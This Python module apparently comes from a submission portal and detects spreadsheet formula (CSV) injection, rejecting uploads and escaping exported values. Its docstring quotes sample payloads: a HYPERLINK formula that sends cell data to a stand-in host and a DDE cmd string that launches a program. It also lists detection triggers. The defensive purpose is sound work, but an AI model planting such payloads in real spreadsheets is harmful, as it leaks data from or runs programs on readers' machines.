"""Spreadsheet cells that a spreadsheet program could run as a formula ("CSV injection").

A cell such as ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` or ``+cmd|' /C calc'!A0`` is harmless
text in our system, but when an inspector opens the file in Excel it can send data away or start a
program. Uploads containing such cells are *rejected*, not silently escaped: the portal keeps the
provider's original file byte for byte as evidence of what was submitted (its SHA-256 is recorded), so
changing the content on the way in would break that evidence's integrity and leave the provider's copy
and ours different. The provider can remove the formulas (paste values only) and upload again, and the
file stored is then the file they sent.

Files that *this system* writes out are a different matter: there is no original to preserve, so
``neutralise_for_export`` escapes any value that could be read as a formula.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import warnings
from collections.abc import Iterator
from typing import Any, BinaryIO

import openpyxl  # type: ignore[import-untyped]

from .errors import Cell
from .text import text_encoding

# OWASP's list: the four that start a formula in Excel, LibreOffice and Google Sheets, and tab and carriage
# return, which some programs strip before looking for them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# After a leading + or -, only digits and punctuation that cannot name a cell, call a function or link to
# another program (those all need letters, "!" or "|"): -12, -3.5, -1,234.50, +44 20 7946 0000, -05:00,
# a lone "-" for "none". Flagging these would refuse ordinary provider data for no protection.
_HARMLESS_AFTER_SIGN = re.compile(r"[0-9 .,()/:%+\-]*")
_HARMLESS_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_SNIFF_SAMPLE = 64 * 1024


def looks_like_formula(value: str) -> bool:
    """Whether a spreadsheet program could treat this text as a formula when it opens the file."""
    # Leading spaces are skipped because LibreOffice's import can trim them and then see the formula.
    text = value.lstrip(" ")
    if not text or text[0] not in FORMULA_TRIGGERS:
        return False
    first, rest = text[0], text[1:]
    if first in "\t\r":
        return bool(rest.strip())
    if first in "+-":
        return _HARMLESS_AFTER_SIGN.fullmatch(rest) is None
    return True  # "=" and "@" start a formula or a function call whatever follows


def neutralise_for_export(value: str) -> str:
    """Make a value safe to write into a CSV this system produces, so it opens as text, never a formula.

    Prefixes a ``'``, which Excel and LibreOffice hide and read as "this is text". Plain numbers are left
    alone so exported figures stay numbers.
    """
    if _HARMLESS_NUMBER.fullmatch(value.strip()) or not looks_like_formula(value):
        return value
    return "'" + value


def _as_stream(data: bytes | BinaryIO) -> BinaryIO:
    return io.BytesIO(data) if isinstance(data, bytes | bytearray | memoryview) else data


def _csv_delimiter(sample: str) -> str:
    # Excel honours a first line "sep=;"; otherwise guess, because a semicolon-separated file read with
    # commas would hide "a;=cmd" inside one harmless-looking cell.
    first_line = sample.split("\n", 1)[0].strip().lstrip("\ufeff")
    if first_line.lower().startswith("sep=") and len(first_line) == 5:
        return first_line[4]
    try:
        return csv.Sniffer().sniff(sample, delimiters=",;\t|").delimiter
    except csv.Error:
        return ","


def _csv_cells(stream: BinaryIO) -> Iterator[Cell]:
    encoding = text_encoding(stream)
    if encoding is None:
        raise ValueError("not UTF-8 or Windows-1252 text")
    text = io.TextIOWrapper(stream, encoding=encoding, newline="")
    try:
        delimiter = _csv_delimiter(text.read(_SNIFF_SAMPLE))
        text.seek(0)
        for row_number, row in enumerate(csv.reader(text, delimiter=delimiter), start=1):
            for column_number, value in enumerate(row, start=1):
                if looks_like_formula(value):
                    yield Cell("", row_number, column_number, value)
    finally:
        text.detach()  # leave the caller's stream open


def _formula_text(value: Any) -> str:
    # Array formulas and data tables arrive as objects rather than "=..." strings.
    text = getattr(value, "text", None)
    return str(text if text is not None else value)


def _xlsx_cells(stream: BinaryIO) -> Iterator[Cell]:
    with warnings.catch_warnings():
        # openpyxl warns about things like missing default styles; they say nothing about safety.
        warnings.simplefilter("ignore")
        workbook = openpyxl.load_workbook(stream, read_only=True, data_only=False, keep_links=False)
        try:
            for sheet in workbook.worksheets:
                # Without this a sheet that declares A1:XFD1048576 is padded out to its full size.
                sheet.reset_dimensions()
                for row in sheet.iter_rows():
                    for cell in row:
                        value = cell.value
                        if value is None:
                            continue
                        if cell.data_type == "f":
                            yield Cell(sheet.title, cell.row, cell.column, _formula_text(value))
                        elif isinstance(value, str) and looks_like_formula(value):
                            yield Cell(sheet.title, cell.row, cell.column, value)
        finally:
            workbook.close()


def find_formula_cells(kind: str, data: bytes | BinaryIO) -> list[Cell]:
    """Every cell in a CSV or XLSX that a spreadsheet program could run as a formula.

    XLSX: real formulas (openpyxl read-only, ``data_only=False``, ``data_type == "f"``) and text cells
    starting with = + - @ tab or carriage return. CSV: fields starting with those, in the file's own
    delimiter. A number such as -12 or -3.5, a date, a phone number such as +44 20 7946 0000 or a lone "-"
    is not a formula. A stream is read from its start. Raises ValueError for other kinds, or if the
    content cannot be read as that kind (``check_upload`` checks the kind first; call this directly only
    on files it has accepted).
    """
    if kind not in ("csv", "xlsx"):
        raise ValueError(f"formula cells can be found only in csv or xlsx files, not {kind!r}")
    stream = _as_stream(data)
    stream.seek(0)
    try:
        if kind == "csv":
            return list(_csv_cells(stream))
        try:
            return list(_xlsx_cells(stream))
        except Exception as error:
            # openpyxl reports a damaged workbook with whatever its XML or zip layer raised (KeyError for a
            # missing part, ParseError, BadZipFile, TypeError...); all mean the same to us.
            raise ValueError(f"not a readable XLSX workbook: {error!r}") from error
    finally:
        with contextlib.suppress(OSError, ValueError):
            stream.seek(0)
